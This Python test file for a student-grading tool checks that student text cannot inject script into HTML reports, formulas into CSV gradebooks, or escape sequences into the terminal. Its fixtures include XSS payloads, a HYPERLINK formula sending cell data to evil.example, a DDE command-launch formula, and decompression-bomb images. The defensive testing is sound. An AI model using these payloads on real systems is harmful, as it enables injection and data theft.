"""What a student wrote, named or printed can do nothing in a page, a gradebook or a terminal."""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
import shutil
import struct
import subprocess
import time
import zlib
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from graders.cli.check import show
from graders.export import write_csv, write_junit
from graders.language import speaking
from graders.printable import one_line, visible, writable
from graders.report import Exhibits, write_class, write_submission
from graders.report.exhibits import Curve, DrawnNode, NetworkDrawing, Table
from graders.report.notebook import cells
from graders.report.pictures import PictureError, data_uri
from graders.report.prose import prose
from graders.rubric.model import Rubric, Text
from graders.scoring.result import (
    CriterionResult,
    ExerciseResult,
    Flag,
    Result,
    Status,
    VerdictKind,
)

QUICK = 60  # seconds, on a machine with other things to do
OWNED = "document.title='owned'"
HTML = {
    "script": f"<script>{OWNED}</script>",
    "image": f'<img src=x onerror="{OWNED}">',
    "svg": f'<svg onload="{OWNED}"><script>{OWNED}</script></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>body{background:url(https://evil.example/?a)} input{display:none}</style>",
    "form": '<form action="https://evil.example"><input autofocus onfocus="x"></form>',
    "object": '<object data="data:text/html,x"></object><embed src="x">',
    "link": f'<a href="javascript:{OWNED}">x</a><link rel=stylesheet href=//evil.example>',
    "closing": f"</textarea></title></style></pre></div></body></html><script>{OWNED}</script>",
    "attribute": f'" onmouseover="{OWNED}" x=\'\' autofocus onfocus={OWNED} ',
    "comment": f"--><!--><script>{OWNED}</script>",
    "template": "{{ 7*7 }}{% for x in y %}{{ self.__init__.__globals__ }}",
    "math": f"$\\href{{javascript:{OWNED}}}{{x}}$ $$\\unicode{{<img src=x onerror={OWNED}>}}$$",
    "entities": f"&lt;script&gt;{OWNED}&lt;/script&gt; &#60;script&#62;",
    "unicode": f"\uff1cscript\uff1e{OWNED}\uff1c/script\uff1e\u2028\u2029\ufeff",
    "cdata": f"<![CDATA[<script>{OWNED}</script>]]><![evil",
}
MARKDOWN = {
    "link": f"[x](javascript:{OWNED}) [y](data:text/html,<script>{OWNED}</script>) <javascript:x>",
    "reference": f"[x][1]\n\n[1]: javascript:{OWNED} 'title\" onclick=\"{OWNED}'",
    "image": f'![x](https://evil.example/pixel.png) !["><script>{OWNED}</script>](x)',
    "svg image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "code": f"```html\n<script>{OWNED}</script>\n```\n`<script>{OWNED}</script>`",
    "class": f'```x"><script>{OWNED}</script>\ny\n```',
    "heading": f"# <script>{OWNED}</script> {{#id onclick=x}}",
    "table": f"|a|\n|-|\n|<img src=x onerror={OWNED}>|",
}
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m\x1bP+q\x1b\\\b\b\b\r\x00"
EVERYTHING = [*HTML.values(), *MARKDOWN.values(), TERMINAL, "\u202eevil", "\ud800", "a\x00b"]


class Page(HTMLParser):
    """What a browser finds in a page: its tags, and that nothing of it runs or loads."""

    allowed = frozenset(
        """html head meta title style body header main footer section article figure figcaption div
        p span h1 h2 h3 h4 h5 h6 a ul ol li dl dt dd table thead tbody tfoot tr th td pre code em
        strong del br hr blockquote img svg path circle rect line text g small bdi script title
        polygon polyline marker defs desc""".split()
    )

    def __init__(self, text: str, *, script: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.titles = self.scripts = 0
        self.words: list[str] = []
        self.feed(text)
        assert self.scripts == int(script)
        policy = html.unescape(re.findall(r'Security-Policy" content="([^"]*)"', text)[0])
        assert policy.startswith("default-src 'none'; style-src 'sha256-")
        assert "unsafe" not in policy
        assert "http" not in policy

    def handle_starttag(self, tag, attrs):
        assert tag in self.allowed, tag
        self.scripts += tag == "script"
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in ("style", "srcdoc", "formaction", "background", "xlink:href", "ping")
            if name == "src":
                assert re.match(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]*$", value), value
            if name == "href":
                assert re.match(r"(#|report\.html|notebook\.html|\./)", value), value
            if name == "http-equiv":
                assert value == "Content-Security-Policy"

    def handle_data(self, data):
        self.words.append(data)


def result(text: str) -> Result:
    """A result in which everything that may quote a student says this."""
    criterion = CriterionResult(
        id="e1.x", verdict=VerdictKind.VIOLATED, message=text + "!", expected=text, observed=text,
        cells=(0, 10**9, -5), text=text, penalty=text, cost=Decimal(1), applied=Decimal(1),
    )  # fmt: skip
    exercise = ExerciseResult(
        id="e1", title=text, points=Decimal(3), mark=Decimal(2), mark_low=Decimal(2),
        mark_high=Decimal(2), criteria=(criterion,),
    )  # fmt: skip
    return Result(
        assignment="p3", submission=text or "x", students=(text, text), mark=Decimal(2),
        mark_low=Decimal(2), mark_high=Decimal(2), max_mark=Decimal(3), status=Status.NEEDS_REVIEW,
        flags=(Flag(id="intake", message=text, cells=(0,)),), problem=text, exercises=(exercise,),
    )  # fmt: skip


def exhibits(text: str) -> Exhibits:
    node = DrawnNode(id="a", label=text, detail=text)
    return Exhibits(
        drawings=(NetworkDrawing(title=text, nodes=(node,), blocks=(text,), note=text),),
        curves=(Curve(title=text, series={text: ((0, 1), (1, 2))}, x_label=text, y_label=text),),
        tables=(Table(title=text, columns=(text,), rows=((text,),), note=text),),
        notices=(text,),
        environment={text: text},
    )


def executed(text: str) -> dict:
    """A notebook in which every place that a student's kernel can write says this."""
    data = {"text/html": text, "text/plain": text, "image/svg+xml": text, text: text,
            "application/javascript": text, "text/latex": text, "image/png": text}  # fmt: skip
    outputs = [
        {"output_type": "stream", "name": text, "text": text},
        {"output_type": "display_data", "data": data, "metadata": {text: text}},
        {"output_type": "display_data", "data": {"text/html": text}},
        {"output_type": "execute_result", "data": {text: text}},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
    ]
    meta = {"corrige": {"notebook": text}}
    attached = {text: {text: text}, "a": {"image/svg+xml": text, "image/png": text}}
    return {
        "cells": [
            {"cell_type": "code", "source": text, "outputs": outputs, "metadata": meta},
            {"cell_type": "markdown", "source": text + "\n\n![a](attachment:a)",
             "attachments": attached, "metadata": meta},
            {"cell_type": "raw", "source": text},
            {"cell_type": text, "source": [text]},
        ]
    }  # fmt: skip


RUBRIC = Rubric(assignment="p3", title=Text(es="x", en="x"), exercises=())


@pytest.mark.parametrize("text", EVERYTHING, ids=ascii)
def test_nothing_of_a_students_runs_in_a_page(tmp_path, text):
    write_submission(result(text), exhibits(text), executed(text), tmp_path)
    write_class(RUBRIC, [result(text)], tmp_path)
    for name in ("report.html", "notebook.html"):
        Page((tmp_path / name).read_text("utf-8"))
    Page((tmp_path / "index.html").read_text("utf-8"), script=True)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.text(
        st.sampled_from("<>&\"'=/`[]()!#-*_|$\\{}%\n\t\r aZ9\x00\x1b\u202e\ud800é"), max_size=80
    )
)
def test_any_text_comes_out_as_text(tmp_path_factory, text):
    folder = tmp_path_factory.mktemp("any")
    write_submission(result(text), exhibits(text), executed(text), folder)
    page = Page((folder / "report.html").read_text("utf-8"))
    words = " ".join("".join(page.words).split())
    assert " ".join(visible(text).split()) in words
    Page((folder / "notebook.html").read_text("utf-8"))


# -- pictures --------------------------------------------------------------------------------
def png(width: int, height: int, first: bytes = b"IHDR") -> str:
    """A PNG of black pixels, or one that says it is that large."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content))
            + kind
            + content
            + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((width // 8 + 1) * min(height, 1000)), 9)
    raw = b"\x89PNG\r\n\x1a\n" + chunk(first, head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(raw).decode()


def jpeg(width: int, height: int) -> str:
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + bytes(10)
    return base64.b64encode(b"\xff\xd8\xff\xe0\x00\x04ab" + frame).decode()


@pytest.mark.parametrize(
    ("kind", "encoded"),
    [
        ("image/png", png(60_000, 60_000)),
        ("image/png", png(2**31, 1)),
        ("image/png", png(10, 10, b"evil")),
        ("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()),
        ("image/png", base64.b64encode(b"<svg onload=x>").decode()),
        ("image/png", "\"><script>x</script>"),
        ("image/jpeg", jpeg(65_500, 65_500)),
        ("image/jpeg", base64.b64encode(b"\xff\xd8\xff" + bytes(100)).decode()),
        ("image/svg+xml", base64.b64encode(b"<svg/>").decode()),
        ("image/png;base64,x\" onerror=\"x", png(1, 1)),
        ("text/html", png(1, 1)),
        ("image/png", base64.b64encode(bytes(3 * 2**20)).decode()),
    ],
)  # fmt: skip
def test_pictures_that_are_none_are_not_shown(kind, encoded):
    with pytest.raises(PictureError):
        data_uri(kind, encoded)


def test_pictures_that_are_some_are_shown():
    assert data_uri("image/png", png(4000, 3000)).startswith("data:image/png;base64,")
    assert data_uri("image/jpeg", jpeg(4000, 3000)).startswith("data:image/jpeg;base64,")


def test_one_picture_shown_ten_thousand_times(tmp_path):
    """A page of 26 GB out of a cell of 200 kB."""
    big = base64.b64encode(base64.b64decode(png(10, 10)) + bytes(2**20)).decode()
    cell = {
        "cell_type": "markdown",
        "source": "![a](attachment:a)\n" * 1000,
        "attachments": {"a": {"image/png": big}},
    }
    write_submission(result("x"), Exhibits(), {"cells": [cell] * 10}, tmp_path)
    assert (tmp_path / "notebook.html").stat().st_size < 40 * 2**20


def test_pixels_are_counted_on_the_whole_page():
    output = {"output_type": "display_data", "data": {"image/png": png(6000, 6000)}}
    cell = {"cell_type": "code", "source": "", "outputs": [output] * 50}
    shown = [o for c in cells({"cells": [cell] * 4}) for o in c.outputs if o.kind == "picture"]
    assert 1 <= len(shown) <= 12


# -- texts that are slow to read ---------------------------------------------------------------
SLOW = {
    "quotes": ">" * 100_000,
    "brackets": "[" * 100_000,
    "emphasis": "**a" * 30_000,
    "spaces": " \n" * 50_000,
    "table": "|a|b|\n|-|-|\n" + "|a|b|\n" * 16_000,
    "tags": "<a" * 50_000,
    "attributes": "<a b='" * 16_000,
    "comments": "<!--" * 25_000,
    "dots": "a." * 50_000,
    "escapes": "\x1b[" * 50_000,
    "strings": "\x1b]" * 50_000,
    "returns": "\r" * 100_000,
    "strings in strings": "f'{" * 30_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_slow_texts_are_not_worked_on_for_ever(tmp_path, name):
    began = time.monotonic()
    book = executed(SLOW[name])
    write_submission(result("x"), Exhibits(), {"cells": book["cells"] * 20}, tmp_path)
    assert time.monotonic() - began < QUICK


@pytest.mark.parametrize("thing", [None, 3, [], {}, [[]], {"a": {}}, True, float("nan"), "x", [7]])
def test_notebooks_of_the_wrong_kinds_are_shown_as_far_as_they_go(tmp_path, thing):
    book = executed("x")
    for place in ("source", "outputs", "metadata", "attachments", "cell_type"):
        for cell in book["cells"]:
            spoilt = [{**cell, place: thing}, {"cell_type": "code", "outputs": [thing]}]
            write_submission(result("x"), Exhibits(), {"cells": [*spoilt, thing]}, tmp_path)
    write_submission(result("x"), Exhibits(), {"cells": thing}, tmp_path)


def test_markdown_has_no_way_out():
    for source in MARKDOWN.values():
        text = str(prose(source))
        assert not re.search(r"<(script|a|iframe|svg|object)\b", text, re.IGNORECASE)
        assert not re.search(r"<img[^>]*src=\"(?!data:image/(png|jpeg))", text)


# -- gradebook, CI -----------------------------------------------------------------------------
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "'=1+1",
    "=cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20x", "Ana;=1+1", "Ana,=1+1",
    "\u200b=1+1", "\ufeff=1+1", '=HYPERLINK("https://evil.example?"&A1)', "a|=1", "\x00=1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_is_a_formula(tmp_path, text):
    write_csv([result(text)], tmp_path / "marks.csv")
    raw = (tmp_path / "marks.csv").read_text("utf-8-sig")
    for row in csv.reader(io.StringIO(raw)):
        for cell in row:
            for part in re.split(r"[;,|]", cell):
                bare = part.strip(' \t"\u200b\ufeff')
                assert not re.match(r"[=+\-@\uff1d\uff0b\uff0d\uff20]", bare), cell
    assert raw.count("\n") == 2  # no name made a row of its own


@pytest.mark.parametrize(
    "text", [*HTML.values(), TERMINAL, "]]>", "\ud800", "\ufffe", "\x0b"], ids=ascii
)
def test_junit_stays_well_formed(tmp_path, text):
    write_junit([result(text)], tmp_path / "r.xml")
    root = ElementTree.parse(tmp_path / "r.xml").getroot()
    assert {e.tag for e in root.iter()} <= {
        "testsuites", "testsuite", "testcase", "failure", "error", "skipped",
    }  # fmt: skip
    assert "\x1b" not in (tmp_path / "r.xml").read_text("utf-8")


# -- terminal ----------------------------------------------------------------------------------
def test_no_escape_sequence_reaches_the_terminal():
    """Names, messages and errors that set the title, clear the screen or write over a line."""
    said = io.StringIO()
    with speaking("en"):
        show(
            result(one_line(TERMINAL)).model_copy(update={"submission": "ana"}), Console(file=said)
        )
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", said.getvalue())
    quoted = result(TERMINAL)
    for text in (quoted.problem, quoted.flags[0].message, quoted.exercises[0].criteria[0].observed):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


@given(st.text(st.characters(), max_size=50))
def test_harmless_text_can_be_written_and_shown(text):
    for made in (visible(text), one_line(text), writable(text)):
        assert made.encode("utf-8").decode("utf-8") == made
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", visible(text))
    assert not re.search(r"[\n\r\t\u2028\u2029]", one_line(text))
    assert visible(visible(text)) == visible(text)


# -- a browser ---------------------------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs chromium")
@pytest.mark.parametrize("name", ["report.html", "notebook.html", "index.html"])
def test_a_browser_runs_nothing(tmp_path, name):
    """The title stays what it was, and the styles that the policy allows are applied."""
    text = "\n\n".join(EVERYTHING)
    write_submission(result(text), exhibits(text), executed(text), tmp_path)
    write_class(RUBRIC, [result(text)], tmp_path)
    dom = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000",
         f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", (tmp_path / name).as_uri()],
        capture_output=True, text=True, timeout=180, check=True,
    )  # fmt: skip
    title = re.findall(r"<title>(.*?)</title>", dom.stdout, re.DOTALL)[0]
    assert title != "owned"
    assert json.dumps(title)
    assert "Refused to apply" not in dom.stderr
    headings = re.sub(r"</?button\b[^>]*>", "", dom.stdout)  # made by our own sort.js
    Page(headings, script=name == "index.html")


def test_the_policy_holds_against_an_injected_script(tmp_path):
    """Were something to come through unescaped, the page's policy has no place for it."""
    write_submission(result("x"), Exhibits(), None, tmp_path)
    page = (tmp_path / "report.html").read_text("utf-8")
    assert "script-src" not in page  # so default-src 'none' decides
    assert Path(tmp_path / "notebook.html").exists() is False
